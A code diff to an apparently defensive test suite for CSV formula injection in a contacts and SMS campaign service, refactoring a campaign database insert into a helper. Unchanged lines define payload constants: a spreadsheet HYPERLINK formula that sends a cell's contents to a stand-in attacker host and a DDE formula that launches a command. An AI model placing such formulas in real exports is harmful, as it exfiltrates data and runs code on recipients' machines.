@@ -11,6 +11,7 @@ import { lifecycleWorkflowId } from '../../src/workflows/tenant-lifecycle/defini
 import { apiHarness, signupBody } from '../support/api';
 import { testConfig } from '../support/test-env';
 import { WEB_FORM_CONSENT } from '../support/consent';
+import { insertCampaignRow } from '../support/campaign-rows';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
 const DDE = `=cmd|' /C calc'!A0`;
@@ -51,20 +52,7 @@ describe('CSV formula injection', () => {
       const phones = ['=1+2', '@SUM(1+1)', '-2+3', '+1 (415) 555', '+1 (628) 555-0142', '+14155552671'];
       const contacts = phones.map((phone) => ({ phone, name: DDE, assignedUser: 'dana', consent: WEB_FORM_CONSENT }));
       await http().post('/v1/contacts').set(t.auth).send({ contacts }).expect(201, { received: 6, created: 6, updated: 0 });
-      const [{ id: campaignId }] = await api
-        .db('campaigns')
-        .insert({
-          tenant_id: t.id,
-          name: 'Recall',
-          body: 'Bright Smiles Dental: checkup due. Reply STOP to opt out.',
-          message_type: 'marketing',
-          batch_size: 10,
-          scan: '{}',
-          encoding: 'GSM-7',
-          segments: 1,
-          status: 'preparing',
-        })
-        .returning<{ id: string }[]>('id');
+      const campaignId = await insertCampaignRow(api.db, t.id);
       const activities = createCampaignSendActivities({
         db: api.db,
         twilio: createTwilioClientFactory(config),
